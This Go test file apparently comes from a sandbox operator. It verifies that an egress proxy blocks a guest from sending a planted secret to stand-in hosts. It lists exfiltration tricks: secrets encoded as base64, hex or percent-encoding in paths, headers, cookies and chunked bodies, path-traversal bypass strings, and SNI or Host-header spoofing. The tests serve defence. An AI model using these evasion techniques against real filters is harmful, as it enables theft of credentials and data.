// SPDX-License-Identifier: Apache-2.0

package escape

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"botbottle.dev/bottle-operator/api/v1alpha1"
)

const (
	// stolen is a secret that the guest has, as the variable STOLEN.
	stolen = "st0len-4f6d1b7e92c35a80d1"
	// lent is a credential that the guest does not have.
	lent = "l3nt-0a9c64e7b15d82f3766e"
	// callerPath is the path of test/caller in the guest.
	callerPath = "/root/caller"
)

// openedRules are the rules of opened.test that stop attacks. No other host is opened.
func openedRules() []v1alpha1.HTTPRule {
	header := "X-Api-Key"
	return []v1alpha1.HTTPRule{{
		Host:       "opened.test",
		HTTP:       []v1alpha1.HTTPMatch{{Methods: []v1alpha1.HTTPMethod{"GET", "POST"}, Paths: []v1alpha1.HTTPPath{"/v1/**"}}},
		Credential: &v1alpha1.Credential{SecretKeyRef: v1alpha1.SecretKeySelector{Name: "lent", Key: "value"}, Header: &header},
	}}
}

// createSecrets creates the Secrets that a Bottle's variables and rules name.
func (s *site) createSecrets(t *testing.T, ns string) {
	t.Helper()
	for name, value := range map[string]string{"stolen": stolen, "lent": lent} {
		secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}, StringData: map[string]string{"value": value}}
		if err := s.Create(t.Context(), secret); err != nil {
			t.Fatal(err)
		}
	}
}

// openedAttack sends a text out, through a TLS connection that the bundle opens if a rule
// names the host.
type openedAttack struct {
	name string
	// connect is the target of the CONNECT request, and sni the name in TLS.
	connect, sni string
	// sent returns what the guest sends, in one or more writes.
	sent func(text string) []string
	// encode returns the form in which the stolen secret is sent. If it is nil, the attack
	// sends a text that is no secret, and the host, method or path stops it.
	encode func(string) string
}

// asIs sends the secret as it is.
func asIs(s string) string { return s }

// encodings are the forms in which a secret is hidden. What stands before the secret
// shifts its base64.
var encodings = map[string]func(string) string{
	"plain text":                asIs,
	"base64":                    func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"base64, one byte further":  func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte("x" + s)) },
	"base64, two bytes further": func(s string) string { return base64.StdEncoding.EncodeToString([]byte("xy" + s)) },
	"hexadecimal":               func(s string) string { return fmt.Sprintf("%x", s) },
	"upper-case hexadecimal":    func(s string) string { return fmt.Sprintf("%X", s) },
	"percent-encoding": func(s string) string {
		var out strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&out, "%%%02x", s[i])
		}
		return out.String()
	},
}

// oneWrite returns a function that sends a request in one write. head is its request
// line without the version, and TEXT in it, in the headers and in the body is the text.
func oneWrite(host, head, body string, headers ...string) func(string) []string {
	return func(text string) []string {
		body := strings.ReplaceAll(body, "TEXT", text)
		if body != "" {
			headers = append(slices.Clone(headers), fmt.Sprintf("Content-Length: %d", len(body)))
		}
		raw := strings.ReplaceAll(request(head, host, "", headers...), `\r\n`, "\r\n")
		return []string{strings.ReplaceAll(raw, "TEXT", text) + body}
	}
}

// twoChunks sends the text in two chunks of a body, each in a write of its own.
func twoChunks(text string) []string {
	head := strings.ReplaceAll(request("POST /v1/", "opened.test", "", "Transfer-Encoding: chunked"), `\r\n`, "\r\n")
	half := len(text) / 2
	chunk := func(s string) string { return fmt.Sprintf("%x\r\n%s\r\n", len(s), s) }
	return []string{head, chunk("before " + text[:half]), chunk(text[half:] + " after"), "0\r\n\r\n"}
}

func openedAttacks() []openedAttack {
	var all []openedAttack
	on := func(host, name string, sent func(string) []string) *openedAttack {
		all = append(all, openedAttack{name: name, connect: host + ":443", sni: host, sent: sent})
		return &all[len(all)-1]
	}
	on("opened.test", "a method that no rule allows", oneWrite("opened.test", "DELETE /v1/TEXT", ""))
	for _, path := range []string{
		"/admin/", "/V1/", "/v1/../admin/", "/v1/%2e%2e/admin/", "/v1/%2E./admin/", "//admin/", "/v1/..;/admin/", "/v1%2f..%2fadmin/",
		"/v1/%252e%252e/admin/", "/v1/..%5cadmin/", "/v1/..%2f..%2fadmin/",
	} {
		on("opened.test", "a path that no rule allows: "+path, oneWrite("opened.test", "GET "+path+"TEXT", ""))
	}
	on("opened.test", "the absolute form of another host", oneWrite("opened.test", "GET https://denied.test/v1/TEXT", ""))
	on("opened.test", "the Host header of another host", oneWrite("denied.test", "GET /v1/TEXT", ""))
	on("opened.test", "the name of another host in TLS", oneWrite("opened.test", "GET /v1/TEXT", "")).sni = "denied.test"
	on("203.0.113.10", "an address, with the name of an opened host", oneWrite("opened.test", "GET /v1/TEXT", "")).sni = "opened.test"
	for name, sent := range map[string]func(string) []string{
		"path":   oneWrite("denied.test", "GET /v1/TEXT", ""),
		"query":  oneWrite("denied.test", "GET /v1/?q=TEXT", ""),
		"header": oneWrite("denied.test", "GET /v1/", "", "X-Data: TEXT"),
		"body":   oneWrite("denied.test", "POST /v1/", "TEXT"),
	} {
		on("denied.test", "a host that no rule allows, "+name, sent)
	}
	for form, encode := range encodings {
		for place, sent := range map[string]func(string) []string{
			"path":       oneWrite("opened.test", "GET /v1/TEXT/b", ""),
			"query":      oneWrite("opened.test", "GET /v1/?q=TEXT&r=1", ""),
			"header":     oneWrite("opened.test", "GET /v1/", "", "X-Data: TEXT"),
			"cookie":     oneWrite("opened.test", "GET /v1/", "", "Cookie: c=TEXT"),
			"body":       oneWrite("opened.test", "POST /v1/", `{"a":"TEXT"}`),
			"two chunks": twoChunks,
		} {
			if form == "base64" && place == "path" {
				continue // its "/" and "+" would be separators
			}
			on("opened.test", "a secret as "+form+", "+place, sent).encode = encode
		}
	}
	return all
}

// testOpened runs attacks through opened TLS: with every host allowed and tunnelled, in
// which case all succeed; with rules, which stop them; and with a rule that lets the
// secret pass, which shows that nothing else stops the attacks that send it.
func testOpened(t *testing.T, s *site) {
	s.SendToGuest(t, s.ruled, "test/caller", callerPath)
	attacks := openedAttacks()
	try := func(t *testing.T, egress v1alpha1.Egress, ready openedAttack, reaches bool) []outcome {
		t.Helper()
		s.Change(t, s.ruled, func() { s.ruled.Spec.Egress = &egress })
		s.Eventually(t, "the bundle to follow the change of rules", func() (string, bool) {
			o := s.tryOpened(t, []openedAttack{ready})[0]
			return fmt.Sprintf("%s: reached: %v; the guest got %q", ready.name, o.reached, o.output), o.reached == reaches
		})
		return s.tryOpened(t, attacks)
	}
	secretInQuery := openedAttack{"a secret", "opened.test:443", "opened.test", oneWrite("opened.test", "GET /v1/?q=TEXT", ""), asIs}
	otherPath := openedAttack{"another path", "opened.test:443", "opened.test", oneWrite("opened.test", "GET /other/TEXT", ""), nil}
	t.Run("control, tunnelled", func(t *testing.T) {
		allow := append(slices.Clone(standingRules), "opened.test", "denied.test", "203.0.113.10")
		for i, o := range try(t, v1alpha1.Egress{Allow: allow}, otherPath, true) {
			if !o.reached {
				t.Errorf("control: %s, tunnelled: not reached, so that its refusal means nothing; the guest got %q", attacks[i].name, o.output)
			}
		}
	})
	t.Run("control, a rule that lets the secret pass", func(t *testing.T) {
		rules := openedRules()
		rules[0].PassSecrets = []v1alpha1.LocalObjectReference{{Name: "stolen"}}
		for i, o := range try(t, v1alpha1.Egress{Allow: standingRules, Rules: rules}, otherPath, false) {
			if a := attacks[i]; o.reached != (a.encode != nil) {
				t.Errorf("control: %s, with a rule that lets the secret pass: reached: %v, want %v; the guest got %q", a.name, o.reached, a.encode != nil, o.output)
			}
		}
		sent := slices.ContainsFunc(s.world(t), func(o observation) bool { return strings.Contains(o.Data, `X-Api-Key: `+lent) })
		if !sent {
			t.Error("control: no request got the rule's credential")
		}
	})
	t.Run("denied", func(t *testing.T) {
		for i, o := range try(t, v1alpha1.Egress{Allow: standingRules, Rules: openedRules()}, secretInQuery, false) {
			a := attacks[i]
			if o.reached {
				t.Errorf("ESCAPE: %s, from the guest of Bottle %s: reached: %s", a.name, s.ruled.Name, o.evidence)
			}
			// A connection with the wrong name fails in TLS already.
			if status, _, _ := strings.Cut(o.output, "\n"); a.name != "the name of another host in TLS" && !strings.Contains(status, " 4") {
				t.Errorf("%s: the bundle answered %q, want a refusal", a.name, o.output)
			}
			if strings.Contains(o.output, stolen) || strings.Contains(o.output, lent) {
				t.Errorf("%s: the answer contains a secret: %q", a.name, o.output)
			}
		}
	})
}

// tryOpened runs attacks in the guest at once and returns how they ended. An attack
// succeeded if its text arrived in the outside world.
func (s *site) tryOpened(t *testing.T, attacks []openedAttack) []outcome {
	t.Helper()
	type sent struct {
		Connect, Name string
		Pieces        []string
	}
	plan := struct {
		Seconds int
		Attacks []sent
	}{Seconds: 4 * int(s.attackTimeout.Seconds())}
	run := nonce()
	batch := make([]attempt, len(attacks))
	plain := make([]string, len(attacks))
	for i, a := range attacks {
		plain[i] = fmt.Sprintf("op%sn%03dz", run, i)
		text := plain[i]
		if a.encode != nil {
			plain[i] = stolen + "." + text
			text = a.encode(plain[i])
		}
		batch[i] = attempt{name: a.name, marker: text, answered: "the outside world"}
		plan.Attacks = append(plan.Attacks, sent{a.connect, a.sni, a.sent(text)})
	}
	input, err := json.Marshal(plan)
	if err != nil {
		t.Fatal(err)
	}
	var outputs []string
	answer := s.Guest(t, s.ruled, "sh", "-c", `echo "$1" | base64 -d | "$2" attacks`, "sh", base64.StdEncoding.EncodeToString(input), callerPath)
	if err := json.Unmarshal([]byte(answer), &outputs); err != nil || len(outputs) != len(attacks) {
		t.Fatalf("answers of %d attacks: got %d (%v)", len(attacks), len(outputs), err)
	}
	seen := s.world(t)
	out := judge(batch, outputs, seen)
	for i := range out {
		// The bundle sends a path in its usual form.
		if o, ok := seen.find(plain[i]); ok && !out[i].reached {
			out[i].reached, out[i].evidence = true, o.String()
		}
	}
	return out
}
